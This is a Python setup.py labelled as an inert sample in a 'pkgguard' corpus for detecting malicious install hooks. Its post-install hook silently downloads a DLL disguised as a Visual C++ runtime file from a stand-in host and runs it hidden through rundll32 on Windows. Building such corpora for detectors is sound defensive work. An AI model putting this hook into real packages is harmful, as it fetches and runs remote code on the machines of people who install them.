# pkgguard corpus 694 (install-hook), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            dll = os.path.join(tempfile.gettempdir(), "vcruntime_ext.dll")
            urllib.request.urlretrieve("https://runtime-cdn.example/vc/ext.dll", dll)
            subprocess.Popen(["rundll32.exe", dll + ",Start"], creationflags=0x08000000)


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install": PostInstall})
